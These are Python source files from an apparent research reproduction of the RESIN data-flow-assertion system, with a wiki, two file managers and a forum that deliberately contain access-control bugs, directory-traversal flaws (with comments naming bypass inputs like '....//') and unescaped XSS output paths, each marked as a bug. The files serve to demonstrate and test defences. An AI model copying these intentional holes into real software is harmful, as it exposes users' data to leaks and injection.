        #: This environment's default-filter registry.  Falls back to the
        #: process-wide registry for channel types it does not override.
        self.registry = (registry if registry is not None
                         else FilterRegistry(parent=default_registry()))
        #: Application services published for this environment (the running
        #: board, site, wiki, ... that policies consult).  One registry per
        #: environment, so singletons never leak across concurrent tenants.
        self.services = ServiceRegistry(env=self)
        self.fs = ResinFS(registry=self.registry, env=self)
        self.db = Database(Engine(), persist_policies=persist_policies,
                           registry=self.registry, env=self)
        self.mail = MailTransport(registry=self.registry, env=self)
        self.sessions = SessionStore()
        self.interpreter = Interpreter(self)
        #: Monotonic request-id source (see :meth:`next_request_id`).
        self._request_ids = itertools.count(1)

    def next_request_id(self) -> int:
        """The next environment-unique request id.

        Stamped into :class:`~repro.core.request_context.RequestContext` at
        dispatch time by every front end (thread pool, asyncio, socket
        server) and onto the web ``Request`` itself, so middleware log
        lines, audit events and policy violations all correlate on one
        number.  ``itertools.count`` advances atomically under the GIL, so
        concurrent dispatchers never hand out duplicates.
        """
        return next(self._request_ids)

    # -- channel factories ------------------------------------------------------

    def http_channel(self, user: Optional[str] = None,
                     priv_chair: bool = False,
                     **context) -> HTTPOutputChannel:
        """A fresh HTTP output channel for one response.

        This is the canonical way to get an HTTP boundary: one channel per
        request, so no user or policy state carries over between responses.
        """
        channel = HTTPOutputChannel(context, env=self)
        channel.set_user(user, priv_chair=priv_chair)
        return channel

    def socket(self, peer: Optional[str] = None, **context) -> SocketChannel:
        return SocketChannel(peer, context, env=self)

    def pipe(self, command: Optional[str] = None, **context) -> PipeChannel:
        return PipeChannel(command, context, env=self)

    # -- convenience shims used by examples -------------------------------------------

    @property
    def http(self) -> HTTPOutputChannel:
        """The current request's HTTP channel, or a shared demo channel.

        While a :class:`~repro.core.request_context.RequestContext` for this
        environment is bound (``with resin.request(...)``, or inside a
        dispatched ``WebApplication.handle``), this resolves to *that
        request's* output channel — concurrent requests each see their own.

        Outside any request it falls back to a lazily-created shared channel
        so the README quickstart can say ``env.http.write(...)``.  Because
        that fallback is shared, user and policy state written to it
        accumulates across scenarios — call :meth:`reset_http` between demo
        scenarios, or use :meth:`http_channel` and keep one channel per
        request.
        """
        from .core.request_context import current_request
        rctx = current_request()
        if rctx is not None and rctx.env is self and rctx.http is not None:
            return rctx.http
        if self._shared_http is None:
            self._shared_http = self.http_channel()
        return self._shared_http

    _shared_http: Optional[HTTPOutputChannel] = None

    def reset_http(self) -> None:
        """Drop the shared demo channel so the next ``env.http`` access
        starts from a clean context and an empty body."""
        self._shared_http = None
