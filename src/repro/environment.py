"""The RESIN environment.

``Environment`` wires the substrates together the way a LAMP-style
deployment does: one filesystem, one database, one outgoing-mail transport,
one script interpreter, and per-request HTTP output channels.  The paper's
evaluation applications (:mod:`repro.apps`) are built on top of an
``Environment``; examples and benchmarks create one per scenario.
"""

from __future__ import annotations

from typing import Optional

from .channels.httpout import HTTPOutputChannel
from .channels.mail import MailTransport
from .channels.socketchan import PipeChannel, SocketChannel
from .channels.sqlchan import Database
from .fs.resinfs import ResinFS
from .interp.interpreter import Interpreter
from .sql.engine import Engine
from .web.session import SessionStore


class Environment:
    """Everything an application needs to run under RESIN."""

    def __init__(self, persist_policies: bool = True):
        self.fs = ResinFS()
        self.db = Database(Engine(), persist_policies=persist_policies)
        self.mail = MailTransport()
        self.sessions = SessionStore()
        self.interpreter = Interpreter(self)

    # -- channel factories ------------------------------------------------------

    def http_channel(self, user: Optional[str] = None,
                     priv_chair: bool = False,
                     **context) -> HTTPOutputChannel:
        """A fresh HTTP output channel for one response."""
        channel = HTTPOutputChannel(context)
        channel.set_user(user, priv_chair=priv_chair)
        return channel

    def socket(self, peer: Optional[str] = None, **context) -> SocketChannel:
        return SocketChannel(peer, context)

    def pipe(self, command: Optional[str] = None, **context) -> PipeChannel:
        return PipeChannel(command, context)

    # -- convenience shims used by examples -------------------------------------------

    @property
    def http(self) -> HTTPOutputChannel:
        """A lazily-created shared HTTP channel for quick demos.

        Real applications create one channel per request via
        :meth:`http_channel`; this shared one exists so the README quickstart
        can say ``env.http.write(...)``.
        """
        if not hasattr(self, "_shared_http"):
            self._shared_http = self.http_channel()
        return self._shared_http
