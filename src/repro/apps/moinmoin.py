"""MoinMoin — a miniature wiki with per-page ACLs.

Reproduces the MoinMoin evaluation scenario (Sections 2, 5.1, 6):

* pages are stored in the filesystem, one directory per page with one file
  per revision (the layout the write-ACL assertion cares about);
* each page has a read/write ACL, declared in a ``#acl`` header line just
  like real MoinMoin;
* the **read-ACL assertion** (8 lines in the paper, Figure 5) attaches a
  ``PagePolicy`` to the page body right before it is saved; persistent
  policies then keep the assertion working across the file system;
* the **write-ACL assertion** (15 lines) attaches a
  :class:`~repro.security.assertions.WriteAccessFilter` to the page's
  directory and revision files.

Two previously-known read-access bugs are reproduced:

1. the rst ``include`` directive renders another page without checking its
   ACL (CVE-2008-6548);
2. the "raw" download action forgets the ACL check entirely.

Both leak page contents on the unprotected wiki and are blocked by the
single read assertion when RESIN is enabled.
"""

from __future__ import annotations

import re
from typing import Optional

from ..channels.httpout import HTTPOutputChannel
from ..core.exceptions import AccessDenied, HTTPError
from ..environment import Environment
from ..fs import path as fspath
from ..policies.acl import ACL, PagePolicy
from ..core.request_context import current_request
from ..runtime_api import Resin
from ..security.assertions import WriteAccessFilter
from ..tracking.propagation import to_tainted_str
from ..web.response import Response

PAGES_ROOT = "/wiki/pages"

#: Service name under which a wiki registers itself on its environment.
WIKI_SERVICE = "moinmoin.wiki"


def current_wiki(env: Optional[Environment] = None) -> Optional["MoinMoin"]:
    """The wiki serving ``env`` (or the active request's environment).

    Wikis are environment services, like phpBB boards: each
    :class:`MoinMoin` registers itself on its own environment, so N wikis
    serving concurrently in one interpreter resolve independently.
    """
    if env is not None:
        return env.services.get(WIKI_SERVICE)
    rctx = current_request()
    if rctx is not None and rctx.env is not None:
        return rctx.env.services.get(WIKI_SERVICE)
    return None

_INCLUDE_DIRECTIVE = re.compile(r"\{\{include:([A-Za-z0-9_/-]+)\}\}")


class MoinMoin:
    """The wiki engine."""

    def __init__(
        self,
        env: Optional[Environment] = None,
        use_resin: bool = True,
        use_write_assertion: bool = True,
    ):
        self.env = env if env is not None else Environment()
        self.resin = Resin(self.env)
        self.use_resin = use_resin
        self.use_write_assertion = use_write_assertion
        if not self.env.fs.exists(PAGES_ROOT):
            self.env.fs.mkdir(PAGES_ROOT, parents=True)
        self.env.services.register(WIKI_SERVICE, self)
        self.web = self._build_web()

    def _build_web(self):
        """The wiki's routed HTTP front end.

        Page names are ``path`` parameters (they may contain ``/``); the
        more specific ``.../raw`` route is registered first because routes
        match in registration order.  Viewing and editing share one URL
        space, split by HTTP method.
        """
        web = self.resin.app("moinmoin")

        @web.route("/wiki/<path:name>/raw")
        def raw(request, response, name):
            self.raw_action(name, request.user, response=response)

        @web.route("/wiki/<path:name>")
        def view(request, response, name):
            self.view_page(name, request.user, response=response)

        @web.route("/wiki/<path:name>", methods=["POST"])
        def edit(request, response, name):
            revision = self.update_body(name, request.require("text"), request.user)
            return Response(f"saved revision {revision}", status=201)

        return web

    # -- storage layout -----------------------------------------------------------

    def _page_dir(self, name: str) -> str:
        return fspath.join(PAGES_ROOT, name)

    def _revision_path(self, name: str, revision: int) -> str:
        return fspath.join(self._page_dir(name), f"{revision:08d}")

    def _latest_revision(self, name: str) -> int:
        page_dir = self._page_dir(name)
        if not self.env.fs.isdir(page_dir):
            return 0
        revisions = [
            int(entry) for entry in self.env.fs.listdir(page_dir) if entry.isdigit()
        ]
        return max(revisions) if revisions else 0

    def page_exists(self, name: str) -> bool:
        return self._latest_revision(name) > 0

    # -- ACLs ------------------------------------------------------------------------------

    @staticmethod
    def parse_acl(text: str) -> ACL:
        """The page ACL is declared on a ``#acl`` header line, e.g.
        ``#acl alice:read,write Known:read``.  Pages without an ACL are
        world-readable and writable by any known user."""
        for line in str(text).splitlines():
            if line.startswith("#acl "):
                _, _, spec = line.partition("#acl ")
                return ACL.parse(spec)
        return ACL({"All": ("read",), "Known": ("read", "write")})

    def get_acl(self, name: str) -> ACL:
        if not self.page_exists(name):
            return ACL({"Known": ("read", "write"), "All": ("read",)})
        latest = self._revision_path(name, self._latest_revision(name))
        return self.parse_acl(str(self.env.fs.read_text(latest)))

    def may(self, user: Optional[str], name: str, right: str) -> bool:
        return self.get_acl(name).may(user, right)

    # -- editing --------------------------------------------------------------------------------

    def update_body(self, name: str, text: str, user: Optional[str]) -> int:
        """Save a new revision of ``name`` (the ``update_body`` of Figure 5).

        MoinMoin's own write check runs here; with RESIN the page body is
        additionally annotated with a ``PagePolicy`` carrying the page's read
        ACL, and (with the write assertion) the page directory gets a
        persistent ``WriteAccessFilter``.

        Revision allocation and the write happen inside one
        ``fs.transaction`` on the page directory, so two concurrent editors
        can never claim the same revision number.
        """
        if self.page_exists(name) and not self.may(user, name, "write"):
            raise AccessDenied(f"user {user!r} may not edit page {name!r}")
        text = to_tainted_str(text)
        acl = self.parse_acl(text)
        if self.use_resin:
            # The 8-line read assertion: attach the page's ACL to its data.
            text = self.resin.taint(text, PagePolicy(acl, name))
        page_dir = self._page_dir(name)
        if not self.env.fs.exists(page_dir):
            self.env.fs.mkdir(page_dir, parents=True)
        self.env.fs.set_request_context(user=user)
        try:
            with self.env.fs.transaction(page_dir):
                revision = self._latest_revision(name) + 1
                self.env.fs.write_text(self._revision_path(name, revision), text)
        finally:
            self.env.fs.clear_request_context()
        if self.use_write_assertion:
            self._install_write_assertion(name, acl)
        return revision

    def _install_write_assertion(self, name: str, acl: ACL) -> None:
        """The 15-line write assertion: guard the page directory and every
        revision file with a write-ACL filter."""
        write_filter = WriteAccessFilter(acl=acl, right="write")
        page_dir = self._page_dir(name)
        self.env.fs.set_persistent_filter(page_dir, write_filter)
        for entry in self.env.fs.listdir(page_dir):
            self.env.fs.set_persistent_filter(
                fspath.join(page_dir, entry), write_filter
            )

    # -- reading ----------------------------------------------------------------------------------

    def _load_body(self, name: str):
        latest = self._latest_revision(name)
        if latest == 0:
            raise HTTPError(404, f"no such page: {name}")
        return self.env.fs.read_text(self._revision_path(name, latest))

    def _response_for(self, user: Optional[str]) -> HTTPOutputChannel:
        response = self.env.http_channel(user=user)
        return response

    def view_page(
        self,
        name: str,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """The normal page view: MoinMoin's own ACL check plus rendering."""
        if response is None:
            response = self._response_for(user)
        if not self.may(user, name, "read"):
            raise AccessDenied(f"user {user!r} may not read page {name!r}")
        body = self._load_body(name)
        response.write(f"<h1>{name}</h1>\n")
        response.write(self._render(body, user))
        return response

    def raw_action(
        self,
        name: str,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """The *buggy* raw-download action: it forgets the ACL check.

        On the unprotected wiki this leaks any page; with the read assertion
        the PagePolicy stored with the page data trips at the HTTP boundary.
        """
        if response is None:
            response = self._response_for(user)
        body = self._load_body(name)
        response.write(body)
        return response

    def _render(self, body, viewing_user: Optional[str]):
        """Render wiki markup.  The ``{{include:Page}}`` directive is the
        CVE-2008-6548 bug: the included page's ACL is *not* checked."""
        rendered = to_tainted_str("")
        cursor = 0
        text = str(body)
        for match in _INCLUDE_DIRECTIVE.finditer(text):
            start = match.start()
            rendered = rendered + body[cursor:start]
            included_name = match.group(1)
            if self.page_exists(included_name):
                # BUG (reproduced): no ACL check on the included page.
                rendered = rendered + self._load_body(included_name)
            cursor = match.end()
        rendered = rendered + body[cursor:]
        return rendered

    # -- maintenance used by attack scenarios -------------------------------------------------------

    def overwrite_revision(
        self, name: str, revision: int, text: str, user: Optional[str]
    ) -> None:
        """Directly overwrite an existing revision file (the code path the
        write-ACL assertion protects: without it, any code path that writes
        into the page directory bypasses the ACL)."""
        self.env.fs.set_request_context(user=user)
        try:
            self.env.fs.write_text(
                self._revision_path(name, revision), to_tainted_str(text)
            )
        finally:
            self.env.fs.clear_request_context()
