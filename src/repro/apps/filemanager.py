"""File Thingie and PHP Navigator — miniature web file managers.

Both applications let each user manage files under a personal home
directory.  Both contain their own (incomplete) checks on user-supplied file
names, and both have a *newly-discovered* directory traversal bug
(Section 6.2): a crafted ``..`` path escapes the home directory on the write
path, letting an adversary overwrite another user's files or application
configuration.

The RESIN assertion (19 and 17 lines in the paper) is a write-access filter
(Data Flow Assertion 2): a persistent :class:`WriteAccessFilter` on the data
root only allows a write when the target path lies inside the authenticated
user's home directory.  The assertion reuses the applications' notion of a
home directory, and catches the traversal no matter which code path produced
the bad file name.
"""

from __future__ import annotations

from typing import Optional

from ..core.exceptions import HTTPError
from ..environment import Environment
from ..fs import path as fspath
from ..runtime_api import Resin
from ..security.assertions import WriteAccessFilter
from ..tracking.propagation import to_tainted_str
from ..web.response import Response
from ..web.routing import SessionMiddleware


class BaseFileManager:
    """Shared plumbing of the two file managers."""

    #: Root directory holding every user's home directory.
    DATA_ROOT = "/srv/files"

    #: Name of the application (used in the data-root path).
    name = "filemanager"

    def __init__(self, env: Optional[Environment] = None, use_resin: bool = True):
        self.env = env if env is not None else Environment()
        self.resin = Resin(self.env)
        self.use_resin = use_resin
        self.data_root = fspath.join(self.DATA_ROOT, self.name)
        if not self.resin.fs.exists(self.data_root):
            self.resin.fs.mkdir(self.data_root, parents=True)
        if use_resin:
            self._install_write_assertion()
        self.web = self._build_web()

    def _build_web(self):
        """The manager's routed HTTP front end.

        Authentication is cookie-based: ``POST /login`` creates a session,
        and the stock :class:`~repro.web.routing.SessionMiddleware` resolves
        it back into ``request.user`` on later requests.  File names are
        ``path`` parameters, so the traversal payloads of Section 6.2 are
        expressible through the web surface — and still caught by the
        write-access assertion underneath.
        """
        web = self.resin.app(self.name)
        web.middleware(SessionMiddleware())

        def require_user(request) -> str:
            if request.user is None:
                raise HTTPError(401, "login required")
            return str(request.user)

        @web.route("/login", methods=["POST"])
        def login(request, response):
            user = str(request.require("user"))
            self.create_account(user)
            session = self.env.sessions.create(user=user)
            return Response(session.sid, status=201)

        @web.route("/files")
        def index(request, response):
            names = self.list_files(require_user(request))
            return Response("\n".join(str(name) for name in names))

        @web.route("/files/<path:filename>")
        def read(request, response, filename):
            response.write(self.read_file(require_user(request), filename))

        @web.route("/files/<path:filename>", methods=["POST", "PUT"])
        def save(request, response, filename):
            target = self.save_file(
                require_user(request), filename, request.require("content")
            )
            return Response(f"stored {target}", status=201)

        return web

    # -- the RESIN assertion ----------------------------------------------------------

    def _install_write_assertion(self) -> None:
        """The write-access assertion: any write below the data root must
        stay inside the current user's home directory."""

        def allowed(user: Optional[str], operation: str, path: str) -> bool:
            if user is None:
                return False
            return fspath.is_inside(path, self.home_dir(user))

        self.resin.fs.set_persistent_filter(
            self.data_root, WriteAccessFilter(allowed=allowed)
        )

    # -- application logic ---------------------------------------------------------------

    def home_dir(self, user: str) -> str:
        return fspath.join(self.data_root, user)

    def create_account(self, user: str) -> None:
        home = self.home_dir(user)
        if not self.env.fs.exists(home):
            self.env.fs.set_request_context(user=user)
            try:
                self.env.fs.mkdir(home, parents=True)
            finally:
                self.env.fs.clear_request_context()

    def _resolve(self, user: str, filename: str) -> str:
        """Resolve a user-supplied file name — subclasses implement the
        application's own (buggy) confinement check here."""
        raise NotImplementedError

    def save_file(self, user: str, filename: str, content) -> str:
        """Write a file on behalf of ``user``; returns the resolved path."""
        target = self._resolve(user, filename)
        self.env.fs.set_request_context(user=user)
        try:
            parent = fspath.dirname(target)
            if not self.env.fs.exists(parent):
                self.env.fs.mkdir(parent, parents=True)
            self.env.fs.write_text(target, to_tainted_str(content))
        finally:
            self.env.fs.clear_request_context()
        return target

    def read_file(self, user: str, filename: str):
        target = self._resolve(user, filename)
        if not self.env.fs.isfile(target):
            raise HTTPError(404, f"no such file: {filename}")
        return self.env.fs.read_text(target)

    def list_files(self, user: str):
        home = self.home_dir(user)
        if not self.env.fs.isdir(home):
            return []
        return self.env.fs.listdir(home)


class FileThingie(BaseFileManager):
    """File Thingie's confinement check rejects absolute paths and file names
    containing a slash — but the *rename/upload* path first strips a leading
    directory component, which re-opens the door to ``..`` sequences."""

    name = "filethingie"

    def _resolve(self, user: str, filename: str) -> str:
        filename = str(filename)
        if filename.startswith("/"):
            raise HTTPError(400, "absolute paths are not allowed")
        # BUG: the check only looks at the *first* path component; a name
        # like "docs/../../victim/notes.txt" sails through.
        first_component = filename.split("/", 1)[0]
        if first_component == "..":
            raise HTTPError(400, "invalid file name")
        return fspath.join(self.home_dir(user), filename)


class PHPNavigator(BaseFileManager):
    """PHP Navigator strips ``../`` prefixes from the supplied name — but
    only non-recursively, so ``....//`` collapses back into ``../`` after one
    pass (a classic filter-evasion bug)."""

    name = "phpnavigator"

    def _resolve(self, user: str, filename: str) -> str:
        filename = str(filename)
        if filename.startswith("/"):
            raise HTTPError(400, "absolute paths are not allowed")
        # BUG: single-pass removal of "../" can be defeated by "....//".
        sanitized = filename.replace("../", "")
        return fspath.join(self.home_dir(user), sanitized)
