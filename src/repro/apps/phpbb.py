"""phpBB — a miniature web forum.

Reproduces the phpBB evaluation scenarios (Section 6):

**Read access control.**  Forums have per-forum read permissions; messages
inherit them.  The paper's assertion (23 lines) attaches a policy to every
message body when it is stored; the policy re-uses the board's own
``user_may_read_forum`` check.  Four access-control bugs are reproduced:

* the "printable view" code path forgets the permission check
  (previously-known bug);
* the *reply quoting* path lets a user reply to a message they may not read
  and quotes the original into the reply form (newly-discovered bug,
  Section 6.3);
* an RSS-feed plugin exports recent messages with no permission check
  (plugin bug);
* a search plugin shows message excerpts with no permission check
  (plugin bug).

**Cross-site scripting.**  The assertion (22 lines) marks request parameters
and data read from external sockets as untrusted and requires every
character of HTML output derived from them to be HTML-sanitized.  Four XSS
bugs are reproduced, including the whois-lookup path of Section 6.3 where
the malicious input arrives from a *whois server*, not from the browser.

The running board is published as an **environment service**
(``env.services``, name :data:`BOARD_SERVICE`): ``ForumMessagePolicy``
resolves the board through the environment owning the channel being checked,
so N boards serving concurrently in one interpreter never observe each
other.  The old module global survives only as a ``DeprecationWarning``
shim (``phpbb.CURRENT_BOARD``).
"""

from __future__ import annotations

import warnings
from typing import Iterable, Optional

from ..channels.httpout import HTTPOutputChannel
from ..channels.socketchan import SocketChannel
from ..core.exceptions import AccessDenied, HTTPError
from ..core.policy import Policy
from ..core.request_context import current_request
from ..core.services import resolve_service
from ..environment import Environment
from ..policies.untrusted import UntrustedData
from ..runtime_api import Resin
from ..tracking.propagation import concat, to_tainted_str
from ..web.response import Response
from ..web.routing import UntrustedInputMiddleware
from ..web.sanitize import html_escape, sql_quote

#: Service name under which a board registers itself on its environment.
BOARD_SERVICE = "phpbb.board"

#: Backing store for the deprecated ``CURRENT_BOARD`` module attribute: the
#: most recently constructed board, whatever its environment.  Nothing in
#: the runtime consults it — it exists only so legacy code reading
#: ``phpbb.CURRENT_BOARD`` keeps limping along (with a warning) until it
#: migrates to ``env.services``.
_LAST_BOARD: Optional["PhpBB"] = None


def __getattr__(name: str):
    if name == "CURRENT_BOARD":
        warnings.warn(
            "phpbb.CURRENT_BOARD is deprecated: the board is an environment "
            "service now — resolve it with current_board(env=...) or "
            "env.services.get(BOARD_SERVICE)",
            DeprecationWarning,
            stacklevel=2,
        )
        return _LAST_BOARD
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


def current_board(env: Optional[Environment] = None) -> Optional["PhpBB"]:
    """The board serving ``env`` (or the active request's environment).

    Boards are environment services: each :class:`PhpBB` registers itself on
    its own environment, so concurrent deployments resolve independently.
    With no ``env`` argument the active
    :class:`~repro.core.request_context.RequestContext` supplies one; outside
    any request the answer is ``None``.
    """
    if env is not None:
        return env.services.get(BOARD_SERVICE)
    rctx = current_request()
    if rctx is not None and rctx.env is not None:
        return rctx.env.services.get(BOARD_SERVICE)
    return None


class ForumMessagePolicy(Policy):
    """A forum message may flow out only to users who may read its forum."""

    ENFORCED_TYPES = frozenset({"http", "socket", "email"})

    def __init__(self, forum_id: int):
        self.forum_id = int(forum_id)

    def export_check(self, context) -> None:
        if context.get("type") not in self.ENFORCED_TYPES:
            return
        # The board the assertion consults is the one owning the channel the
        # data is crossing (context.env.services), falling back to the
        # active request's environment — never a process-wide global.
        board = resolve_service(BOARD_SERVICE, context)
        if board is None:
            return
        user = context.get("user") or context.get("email")
        if board.user_may_read_forum(user, self.forum_id):
            return
        raise AccessDenied(
            f"user {user!r} may not read forum #{self.forum_id}",
            policy=self,
            context=context,
        )


class PhpBB:
    """The forum application."""

    def __init__(
        self,
        env: Optional[Environment] = None,
        use_read_assertion: bool = True,
        use_xss_assertion: bool = True,
    ):
        global _LAST_BOARD
        self.env = env if env is not None else Environment()
        self.resin = Resin(self.env)
        self.use_read_assertion = use_read_assertion
        self.use_xss_assertion = use_xss_assertion
        self._setup_schema()
        self.env.services.register(BOARD_SERVICE, self)
        self.web = self._build_web()
        _LAST_BOARD = self

    def _build_web(self):
        """The board's routed HTTP front end.

        Every message view (the correct one and the four buggy ones) is a
        parameterized route; posting is a separate ``POST`` method on the
        same URL space, so requesting ``DELETE /topic/7`` is a 405 while
        ``GET /nonsense`` stays a 404.  With the XSS assertion enabled the
        untrusted-input middleware marks request parameters and the HTML
        guard rides on every response channel.
        """
        web = self.resin.app("phpbb")
        if self.use_xss_assertion:
            web.middleware(UntrustedInputMiddleware())
            self.resin.assertion("xss").install(web)

        @web.route("/topic/<int:msg_id>")
        def topic(request, response, msg_id):
            self.view_message(msg_id, request.user, response=response)

        @web.route("/topic/<int:msg_id>/printable")
        def printable(request, response, msg_id):
            self.printable_view(msg_id, request.user, response=response)

        @web.route("/topic/<int:msg_id>/reply")
        def reply(request, response, msg_id):
            self.reply_form(msg_id, request.user, response=response)

        @web.route("/topic", methods=["POST"])
        def post(request, response):
            self.post_message(
                int(request.require("msg_id")),
                int(request.require("forum_id")),
                request.user,
                request.require("subject"),
                request.require("body"),
            )
            return Response("posted", status=201)

        @web.route("/rss")
        def rss(request, response):
            self.rss_feed(request.user, response=response)

        @web.route("/search")
        def search(request, response):
            needle = request.require("q")
            self.highlight_search(needle, request.user, response=response)
            self.search_excerpts(needle, request.user, response=response)

        @web.route("/profile/<user>")
        def profile(request, response, user):
            self.profile_page(user, request.user, response=response)

        return web

    def _setup_schema(self) -> None:
        db = self.env.db
        db.execute_unchecked(
            "CREATE TABLE IF NOT EXISTS forums "
            "(forum_id INTEGER, name TEXT, allowed_users TEXT)"
        )
        db.execute_unchecked(
            "CREATE TABLE IF NOT EXISTS messages "
            "(msg_id INTEGER, forum_id INTEGER, author TEXT, subject TEXT, "
            "body TEXT)"
        )
        db.execute_unchecked(
            "CREATE TABLE IF NOT EXISTS signatures (user TEXT, signature TEXT)"
        )

    # -- forums and permissions -----------------------------------------------------

    def create_forum(
        self,
        forum_id: int,
        name: str,
        allowed_users: Optional[Iterable[str]] = None,
    ) -> None:
        """Create a forum.  ``allowed_users=None`` means public."""
        allowed = "*" if allowed_users is None else ",".join(allowed_users)
        self.env.db.query(
            concat(
                "INSERT INTO forums (forum_id, name, allowed_users) VALUES (",
                str(int(forum_id)),
                ", '",
                sql_quote(name),
                "', '",
                sql_quote(allowed),
                "')",
            )
        )

    def user_may_read_forum(self, user: Optional[str], forum_id: int) -> bool:
        result = self.env.db.query(
            f"SELECT allowed_users FROM forums WHERE forum_id = {int(forum_id)}"
        )
        if not result.rows:
            return False
        allowed = str(result.rows[0]["allowed_users"])
        if allowed == "*":
            return True
        return user is not None and user in allowed.split(",")

    # -- posting ----------------------------------------------------------------------------

    def post_message(
        self, msg_id: int, forum_id: int, author: str, subject: str, body: str
    ) -> None:
        body = to_tainted_str(body)
        if self.use_read_assertion:
            # The 23-line read assertion: annotate the message body with a
            # policy that defers to the board's own permission check.
            body = self.resin.taint(body, ForumMessagePolicy(forum_id))
        self.env.db.query(
            concat(
                "INSERT INTO messages (msg_id, forum_id, author, subject, body) "
                "VALUES (",
                str(int(msg_id)),
                ", ",
                str(int(forum_id)),
                ", '",
                sql_quote(author),
                "', '",
                sql_quote(subject),
                "', '",
                sql_quote(body),
                "')",
            )
        )

    def set_signature(self, user: str, signature: str) -> None:
        signature = to_tainted_str(signature)
        if self.use_xss_assertion:
            signature = self.resin.taint(signature, UntrustedData("signature"))
        self.env.db.query(
            concat(
                "INSERT INTO signatures (user, signature) VALUES ('",
                sql_quote(user),
                "', '",
                sql_quote(signature),
                "')",
            )
        )

    def _message(self, msg_id: int):
        result = self.env.db.query(
            f"SELECT msg_id, forum_id, author, subject, body FROM messages "
            f"WHERE msg_id = {int(msg_id)}"
        )
        if not result.rows:
            raise HTTPError(404, f"no such message: {msg_id}")
        return result.rows[0]

    def _response_for(self, user: Optional[str]) -> HTTPOutputChannel:
        response = self.env.http_channel(user=user)
        if self.use_xss_assertion:
            self.resin.assertion("xss").install(response)
        return response

    # -- message views: one correct path, several buggy ones -----------------------------------

    def view_message(
        self,
        msg_id: int,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """The main topic view — permission check present and correct."""
        if response is None:
            response = self._response_for(user)
        message = self._message(msg_id)
        if not self.user_may_read_forum(user, int(message["forum_id"])):
            raise AccessDenied(
                f"user {user!r} may not read forum #{int(message['forum_id'])}"
            )
        response.write("<h2>")
        response.write(html_escape(message["subject"]))
        response.write("</h2>\n<div class='post'>")
        response.write(html_escape(message["body"]))
        response.write("</div>\n")
        return response

    def printable_view(
        self,
        msg_id: int,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """Previously-known bug: the printable view forgets the check."""
        if response is None:
            response = self._response_for(user)
        message = self._message(msg_id)
        response.write("<div class='printable'>")
        response.write(html_escape(message["body"]))
        response.write("</div>\n")
        return response

    def reply_form(
        self,
        msg_id: int,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """Newly-discovered bug (Section 6.3): users may reply to a message
        they cannot read, and the reply form quotes the original message."""
        if response is None:
            response = self._response_for(user)
        message = self._message(msg_id)
        quoted = concat(
            '[quote="',
            message["author"],
            '"]',
            message["body"],
            "[/quote]\n",
        )
        response.write("<form class='reply'><textarea>")
        response.write(html_escape(quoted))
        response.write("</textarea></form>\n")
        return response

    def rss_feed(
        self,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """Plugin bug: the RSS plugin exports recent messages with no
        permission check."""
        if response is None:
            response = self._response_for(user)
        result = self.env.db.query(
            "SELECT msg_id, subject, body FROM messages ORDER BY msg_id DESC "
            "LIMIT 10"
        )
        response.write("<rss>\n")
        for row in result:
            response.write("<item><title>")
            response.write(html_escape(row["subject"]))
            response.write("</title><description>")
            response.write(html_escape(row["body"]))
            response.write("</description></item>\n")
        response.write("</rss>\n")
        return response

    def search_excerpts(
        self,
        needle: str,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """Plugin bug: the search plugin shows excerpts of matching messages
        with no permission check."""
        if response is None:
            response = self._response_for(user)
        result = self.env.db.query(
            concat(
                "SELECT msg_id, body FROM messages WHERE body LIKE '%",
                sql_quote(needle),
                "%'",
            )
        )
        response.write("<ul class='results'>\n")
        for row in result:
            excerpt = row["body"][:60]
            response.write("<li>")
            response.write(html_escape(excerpt))
            response.write("</li>\n")
        response.write("</ul>\n")
        return response

    # -- cross-site scripting paths --------------------------------------------------------------

    def profile_page(
        self,
        user: str,
        viewer: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """XSS bug: the profile page renders the user's signature without
        sanitizing it."""
        if response is None:
            response = self._response_for(viewer)
        result = self.env.db.query(
            concat(
                "SELECT signature FROM signatures WHERE user = '",
                sql_quote(user),
                "'",
            )
        )
        response.write(f"<h2>Profile: {user}</h2>\n<div class='sig'>")
        if result.rows:
            response.write(result.rows[0]["signature"])  # BUG: no escaping
        response.write("</div>\n")
        return response

    def whois_page(
        self,
        hostname: str,
        whois_server: SocketChannel,
        viewer: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """XSS bug via a surprising path (Section 6.3): the whois response is
        included in HTML without sanitization.  With the assertion, the
        socket read is marked untrusted and the HTML guard blocks it."""
        if response is None:
            response = self._response_for(viewer)
        if self.use_xss_assertion:
            self.resin.assertion("untrusted-input", source="whois").install(
                whois_server
            )
        whois_server.write(to_tainted_str(f"QUERY {hostname}\r\n"))
        record = whois_server.read()
        response.write("<h2>whois ")
        response.write(html_escape(hostname))
        response.write("</h2>\n<pre>")
        response.write(record)  # BUG: no escaping
        response.write("</pre>\n")
        return response

    def post_preview(
        self,
        subject,
        body,
        viewer: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """XSS bug: the "preview post" page echoes the submitted subject
        without escaping it."""
        if response is None:
            response = self._response_for(viewer)
        response.write("<h2>")
        response.write(subject)  # BUG: no escaping
        response.write("</h2>\n<div class='preview'>")
        response.write(html_escape(body))
        response.write("</div>\n")
        return response

    def highlight_search(
        self,
        needle,
        viewer: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """XSS bug: the search page echoes the search term into the results
        header without escaping it."""
        if response is None:
            response = self._response_for(viewer)
        response.write("<h3>Results for ")
        response.write(needle)  # BUG: no escaping
        response.write("</h3>\n")
        return response
