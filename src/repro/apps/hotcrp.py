"""HotCRP — a miniature conference management application.

This reproduces the HotCRP features and data flows the paper uses for its
evaluation (Sections 2, 3.1, 5.5, 6 and 7):

* **Password reminders + e-mail preview mode** — the combination behind the
  previously-known password disclosure (Data Flow Assertion 5, Figure 2).
